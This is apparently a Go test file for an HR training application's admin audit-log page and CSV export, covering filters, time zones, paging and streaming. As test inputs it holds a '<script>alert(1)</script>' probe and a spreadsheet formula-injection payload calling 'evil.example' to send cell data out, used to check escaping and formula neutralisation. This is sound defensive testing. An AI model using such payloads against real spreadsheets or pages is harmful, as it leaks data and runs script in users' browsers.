package app_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/uptrace/bun"

	"github.com/serviceacademy/academy/people"
)

// seedAudit appends entries through people.Audit in one transaction.
func seedAudit(tb testing.TB, db *bun.DB, entries ...people.AuditEntry) {
	tb.Helper()
	err := db.RunInTx(context.Background(), nil, func(ctx context.Context, tx bun.Tx) error {
		for _, e := range entries {
			if err := people.Audit(ctx, tx, e.At, e.ActorID, e.Actor, e.Action, e.Subject, e.Detail); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
}

// auditCells returns the text of the cells of one column (when, who, action, subject, detail) of the results.
func auditCells(d *goquery.Document, class string) []string {
	var out []string
	d.Find("#audit tbody tr").Each(func(_ int, tr *goquery.Selection) {
		cell := tr.Find("td").Eq(map[string]int{"when": 0, "who": 1, "action": 2, "subject": 3, "detail": 4}[class])
		out = append(out, strings.TrimSpace(cell.Text()))
	})
	return out
}

func TestAuditPage(t *testing.T) {
	ts := mustServer(t, "sqlite")
	ctx := context.Background()
	hr := ts.client(t)
	hr.signIn(hrEmail)
	me, err := ts.People.FindEmployeeByEmail(ctx, hrEmail)
	if err != nil {
		t.Fatal(err)
	}
	mine := fmt.Sprintf("%s (%s)", me.Name(), me.Number)
	at := func(d, h, m int) time.Time { return time.Date(2026, 7, d, h, m, 0, 0, time.UTC) }
	seedAudit(t, ts.DB,
		people.AuditEntry{At: at(1, 11, 30), ActorID: &me.ID, Actor: mine, Action: "assignment.extend", Subject: staffNumber, Detail: "Induction: due 2026-07-10 → 2026-07-24; reason: on leave"},
		people.AuditEntry{At: at(1, 23, 30), ActorID: &me.ID, Actor: mine, Action: "assignment.exempt", Subject: staffNumber, Detail: "exempt; reason: <script>alert(1)</script>"},
		people.AuditEntry{At: at(2, 9, 0), Actor: "scheduler", Action: "rule.evaluate", Subject: "induction-2026", Detail: "1 assigned (joiners and movers)"},
		people.AuditEntry{At: at(3, 9, 0), Actor: "scheduler", Action: "assignment.recertify", Subject: "induction-2026", Detail: "2 new cycles"},
	)

	t.Run("SubjectNarrowsTheRows", func(t *testing.T) {
		resp, body := hr.get("/admin/audit?subject=" + staffNumber + "&from=2026-07-01&to=2026-07-02") // the demo has entries of its own
		if resp.StatusCode != 200 {
			t.Fatalf("status %d\n%.500s", resp.StatusCode, body)
		}
		d := doc(t, body)
		if got := auditCells(d, "subject"); !slices.Equal(got, []string{staffNumber, staffNumber}) {
			t.Fatalf("subjects %v", got)
		}
		if href, _ := d.Find("#audit td.subject a").First().Attr("href"); href != "/people/"+staffNumber {
			t.Errorf("subject link %q", href)
		}
		// Company time: the demo company is in Europe/London (BST in July).
		if got := auditCells(d, "when"); !slices.Equal(got, []string{"2 Jul 2026 00:30 BST", "1 Jul 2026 12:30 BST"}) {
			t.Errorf("times %v", got)
		}
		if dt, _ := d.Find("#audit time").Last().Attr("datetime"); dt != "2026-07-01T11:30:00Z" {
			t.Errorf("datetime attribute %q", dt)
		}
		if got := auditCells(d, "action"); !strings.HasPrefix(got[1], "Due date extended") || !strings.Contains(got[1], "assignment.extend") {
			t.Errorf("action in words and code: %q", got[1])
		}
		if got := auditCells(d, "who"); got[0] != mine {
			t.Errorf("who %q", got[0])
		}
		if d.Find("#audit td.detail script").Length() != 0 || !strings.Contains(auditCells(d, "detail")[0], "<script>") {
			t.Error("the detail is not escaped")
		}
		if v, _ := d.Find("#f-subject").Attr("value"); v != staffNumber {
			t.Errorf("typed subject lost: %q", v)
		}
		if href, _ := d.Find("#audit-csv").Attr("href"); href != "/admin/audit.csv?from=2026-07-01&subject="+staffNumber+"&to=2026-07-02" {
			t.Errorf("CSV link %q", href)
		}
		if !strings.Contains(d.Find(".lead").Text(), "Europe/London") {
			t.Errorf("time zone not named: %q", d.Find(".lead").Text())
		}
	})

	t.Run("SlugSubjectIsNotALink", func(t *testing.T) {
		_, body := hr.get("/admin/audit?subject=induction-2026")
		d := doc(t, body)
		if n := d.Find("#audit tbody tr").Length(); n != 2 || d.Find("#audit td.subject a").Length() != 0 {
			t.Fatalf("%d rows, %d links", n, d.Find("#audit td.subject a").Length())
		}
	})

	for _, tc := range []struct {
		name, query string
		want        []string // actions, newest first
	}{
		{"ActionGroup", "action=assignment.&from=2026-07-01&to=2026-07-31", []string{"assignment.recertify", "assignment.exempt", "assignment.extend"}},
		{"ActionExact", "action=rule.evaluate&subject=induction-2026", []string{"rule.evaluate"}},
		{"ActorName", "actor=" + url.QueryEscape(strings.ToUpper(me.FirstName)) + "&from=2026-07-01&to=2026-07-31", []string{"assignment.exempt", "assignment.extend"}},
		{"ActorNumber", "actor=" + me.Number + "&from=2026-07-01&to=2026-07-31", []string{"assignment.exempt", "assignment.extend"}},
		{"Detail", "detail=ON+LEAVE", []string{"assignment.extend"}},
		{"DaysInCompanyTime", "from=2026-07-02&to=2026-07-02", []string{"rule.evaluate", "assignment.exempt"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := hr.get("/admin/audit?" + tc.query)
			if resp.StatusCode != 200 {
				t.Fatalf("status %d", resp.StatusCode)
			}
			d := doc(t, body)
			var got []string
			d.Find("#audit td.action .mono").Each(func(_ int, s *goquery.Selection) { got = append(got, s.Text()) })
			if !slices.Equal(got, tc.want) {
				t.Fatalf("actions %v, want %v", got, tc.want)
			}
			q, _ := url.ParseQuery(tc.query)
			if a := q.Get("action"); a != "" {
				if v, _ := d.Find("#f-action option[selected]").Attr("value"); v != a {
					t.Errorf("selected action %q, want %q", v, a)
				}
			}
		})
	}

	t.Run("ActionSelectListsTheGroups", func(t *testing.T) {
		_, body := hr.get("/admin/audit")
		d := doc(t, body)
		for _, v := range []string{"", "assignment.", "rule.", "programme.", "observation.", "rule.create", "certificate.revoke"} {
			if d.Find(fmt.Sprintf(`#f-action option[value=%q]`, v)).Length() != 1 {
				t.Errorf("no option %q", v)
			}
		}
		if d.Find(`label[for="f-action"]`).Length() != 1 || d.Find(`#f-action optgroup[label="Assignments"]`).Length() != 1 {
			t.Error("the action select is not labelled or not grouped")
		}
	})

	t.Run("UnknownActionIsKept", func(t *testing.T) {
		_, body := hr.get("/admin/audit?action=future.thing")
		d := doc(t, body)
		if v, _ := d.Find("#f-action option[selected]").Attr("value"); v != "future.thing" {
			t.Fatalf("selected %q", v)
		}
		if d.Find("#audit").Length() != 0 || !strings.Contains(d.Find("#result-count").Text(), "No entries") {
			t.Fatal("an unknown action should match nothing, and say so")
		}
	})

	for _, tc := range []struct {
		name, query, field, message, typed string
	}{
		{"ErrBadFrom", "from=2026-13-01&subject=" + staffNumber, "from", "not a date", "2026-13-01"},
		{"ErrBadTo", "to=soon", "to", "not a date", "soon"},
		{"ErrToBeforeFrom", "from=2026-07-09&to=2026-07-01", "to", "before the first day", "2026-07-01"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, path := range []string{"/admin/audit?", "/admin/audit.csv?"} {
				resp, body := hr.get(path + tc.query)
				if resp.StatusCode != http.StatusUnprocessableEntity {
					t.Fatalf("%s: status %d, want 422", path, resp.StatusCode)
				}
				d := doc(t, body)
				field := d.Find("#f-" + tc.field)
				if inv, _ := field.Attr("aria-invalid"); inv != "true" {
					t.Errorf("%s: field %s not marked invalid", path, tc.field)
				}
				if v, _ := field.Attr("value"); v != tc.typed {
					t.Errorf("%s: typed value lost: %q", path, v)
				}
				msg := field.Parent().Find("#e-" + tc.field).Text()
				if !strings.Contains(msg, tc.message) {
					t.Errorf("%s: message next to %s: %q", path, tc.field, msg)
				}
				if desc, _ := field.Attr("aria-describedby"); !strings.Contains(desc, "e-"+tc.field) {
					t.Errorf("%s: message not tied to the field: %q", path, desc)
				}
				if d.Find(".form-errors a[href='#f-"+tc.field+"']").Length() != 1 {
					t.Errorf("%s: no summary link to the field", path)
				}
				if d.Find("#audit").Length() != 0 {
					t.Errorf("%s: results shown with bad filters", path)
				}
			}
		})
	}

	t.Run("ErrBrokenOlderLink", func(t *testing.T) {
		resp, body := hr.get("/admin/audit?before=xyz")
		if resp.StatusCode != 422 || doc(t, body).Find("#e-before").Length() != 1 {
			t.Fatalf("status %d", resp.StatusCode)
		}
	})

	t.Run("OlderEntries", func(t *testing.T) {
		var many []people.AuditEntry
		for i := range 130 {
			many = append(many, people.AuditEntry{At: at(5, 0, 0).Add(time.Duration(i) * time.Minute), Actor: "scheduler",
				Action: "rule.evaluate", Subject: "paging-check", Detail: fmt.Sprintf("run %d", i)})
		}
		seedAudit(t, ts.DB, many...)
		_, body := hr.get("/admin/audit?action=rule.evaluate&subject=paging-check")
		d := doc(t, body)
		details := auditCells(d, "detail")
		if len(details) != 100 || details[0] != "run 129" || details[99] != "run 30" {
			t.Fatalf("first page: %d rows, %q … %q", len(details), details[0], details[len(details)-1])
		}
		older, ok := d.Find("#audit-older").Attr("href")
		if !ok || d.Find("#audit-newest").Length() != 0 {
			t.Fatal("first page: want an Older link and no Newest link")
		}
		u, _ := url.Parse(older)
		if q := u.Query(); q.Get("subject") != "paging-check" || q.Get("action") != "rule.evaluate" || q.Get("before") == "" {
			t.Fatalf("older link loses the filters: %s", older)
		}
		_, body = hr.get(older)
		d = doc(t, body)
		details = auditCells(d, "detail")
		if len(details) != 30 || details[0] != "run 29" || details[29] != "run 0" {
			t.Fatalf("second page: %d rows, %v", len(details), details)
		}
		if d.Find("#audit-older").Length() != 0 {
			t.Error("last page has an Older link")
		}
		if href, _ := d.Find("#audit-newest").Attr("href"); href != "/admin/audit?action=rule.evaluate&subject=paging-check" {
			t.Errorf("newest link %q", href)
		}
	})
}

func TestAuditCSV(t *testing.T) {
	ts := mustServer(t, "sqlite")
	ctx := context.Background()
	hr := ts.client(t)
	hr.signIn(hrEmail)
	me, _ := ts.People.FindEmployeeByEmail(ctx, hrEmail)
	evil := "=HYPERLINK(\"http://evil.example/?d=\"&A1, \"Click, \"\"here\"\"\")\nsecond line, with a comma\r\nthird \"line\""
	seedAudit(t, ts.DB,
		people.AuditEntry{At: time.Date(2026, 7, 1, 11, 30, 15, 0, time.UTC), ActorID: &me.ID, Actor: "+Mallory, \"the tester\"",
			Action: "essay.grade", Subject: "csv-check", Detail: evil},
		people.AuditEntry{At: time.Date(2026, 7, 1, 11, 31, 0, 0, time.UTC), Actor: "@scheduler", Action: "rule.evaluate",
			Subject: "csv-check", Detail: "-1 closed"},
		people.AuditEntry{At: time.Date(2026, 7, 1, 11, 32, 0, 0, time.UTC), Actor: "system", Action: "programme.complete",
			Subject: "csv-check", Detail: "\tTabbed; plain text after"},
	)

	t.Run("QuotingAndFormulaInjection", func(t *testing.T) {
		resp, body := hr.get("/admin/audit.csv?subject=csv-check")
		if resp.StatusCode != 200 {
			t.Fatalf("status %d\n%.300s", resp.StatusCode, body)
		}
		if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("content type %q", ct)
		}
		london, _ := time.LoadLocation("Europe/London")
		want := `attachment; filename="audit-log-` + time.Now().In(london).Format(time.DateOnly) + `.csv"`
		if cd := resp.Header.Get("Content-Disposition"); cd != want {
			t.Errorf("content disposition %q, want %q", cd, want)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, body)
		}
		wantRows := [][]string{
			{"at", "actor", "actor_number", "action", "subject", "detail"},
			{"2026-07-01T11:32:00Z", "system", "", "programme.complete", "csv-check", "'\tTabbed; plain text after"},
			{"2026-07-01T11:31:00Z", "'@scheduler", "", "rule.evaluate", "csv-check", "'-1 closed"},
			// encoding/csv reads a quoted \r\n as \n.
			{"2026-07-01T11:30:15Z", "'+Mallory, \"the tester\"", me.Number, "essay.grade", "csv-check", "'" + strings.ReplaceAll(evil, "\r\n", "\n")},
		}
		if len(rows) != len(wantRows) {
			t.Fatalf("%d rows, want %d:\n%s", len(rows), len(wantRows), body)
		}
		for i := range wantRows {
			if !slices.Equal(rows[i], wantRows[i]) {
				t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], wantRows[i])
			}
		}
		if strings.Contains(body, "\n=HYPERLINK") || strings.Contains(body, ",=HYPERLINK") || strings.Contains(body, "\"=HYPERLINK") {
			t.Error("a cell starts with a formula")
		}
	})

	t.Run("StreamsEveryBatch", func(t *testing.T) {
		var many []people.AuditEntry
		start := time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC)
		const n = 1234 // three batches of 500
		for i := range n {
			many = append(many, people.AuditEntry{At: start.Add(time.Duration(i) * time.Second), Actor: "scheduler",
				Action: "assignment.recertify", Subject: "bulk-check", Detail: fmt.Sprint(i)})
		}
		seedAudit(t, ts.DB, many...)
		req, _ := http.NewRequest("GET", "http://localhost/admin/audit.csv?action=assignment.&subject=bulk-check", nil)
		for _, ck := range hr.jar.Cookies(base) {
			req.AddCookie(ck)
		}
		resp, err := ts.App.Test(req, -1)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if !slices.Contains(resp.TransferEncoding, "chunked") {
			t.Errorf("not streamed: transfer encoding %v, length %d", resp.TransferEncoding, resp.ContentLength)
		}
		r := csv.NewReader(resp.Body)
		if h, err := r.Read(); err != nil || strings.Join(h, ",") != "at,actor,actor_number,action,subject,detail" {
			t.Fatalf("header %v %v", h, err)
		}
		next := n - 1
		for {
			row, err := r.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			if row[5] != fmt.Sprint(next) {
				t.Fatalf("row for entry %s, want %d (newest first, none lost or repeated)", row[5], next)
			}
			next--
		}
		if next != -1 {
			t.Fatalf("export stopped before entry %d", next)
		}
	})
}
